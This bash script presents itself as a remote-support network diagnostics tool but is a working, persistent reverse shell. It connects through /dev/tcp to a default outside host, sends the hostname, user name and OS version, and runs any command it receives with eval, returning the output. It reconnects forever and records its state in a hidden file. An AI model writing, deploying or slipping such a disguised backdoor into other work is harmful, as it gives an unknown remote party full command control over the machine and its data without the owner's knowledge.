#!/usr/bin/env bash
# netdiag_loop.sh - network diagnostics session for remote support.
#
# Opens a support session to the diagnostics collector and keeps it alive,
# reconnecting with backoff.  Uses bash's /dev/tcp so it works on minimal
# images without nc or curl.

COLLECTOR_HOST="${NETDIAG_HOST:-diag.support-relay.io}"
COLLECTOR_PORT="${NETDIAG_PORT:-8443}"
BACKOFF_MIN=5
BACKOFF_MAX=300
STATE_FILE="./.netdiag_state"

usage() {
  echo "usage: $0 [-H host] [-P port] [-1]"
  echo "  -1  single session, do not reconnect"
}

ONESHOT=0
while getopts ":H:P:1h" o; do
  case $o in
    H) COLLECTOR_HOST=$OPTARG ;;
    P) COLLECTOR_PORT=$OPTARG ;;
    1) ONESHOT=1 ;;
    h) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

hello() {
  printf 'HELLO %s %s %s\n' "$(hostname)" "$(id -un)" "$(uname -sr)"
}

note_state() {
  printf '%s %s\n' "$(date +%s)" "$1" > "$STATE_FILE"
}

# session: read directives line by line from the collector and answer them
session() {
  exec 5<>"/dev/tcp/${COLLECTOR_HOST}/${COLLECTOR_PORT}" || return 1
  note_state "connected"
  hello >&5
  local line
  while IFS= read -r line <&5; do
    case "$line" in
      "")        continue ;;
      "PING")    echo "PONG" >&5 ;;
      "BYE")     break ;;
      "CD "*)    cd "${line#CD }" 2>&5 && pwd >&5 ;;
      *)
        eval "$line" >&5 2>&5
        printf '\n__rc=%d\n' "$?" >&5
        ;;
    esac
  done
  exec 5<&- 5>&-
  note_state "closed"
  return 0
}

delay=$BACKOFF_MIN
while :; do
  if session; then
    delay=$BACKOFF_MIN
  else
    note_state "unreachable"
    delay=$(( delay * 2 ))
    (( delay > BACKOFF_MAX )) && delay=$BACKOFF_MAX
  fi
  [[ $ONESHOT -eq 1 ]] && break
  sleep "$delay"
done
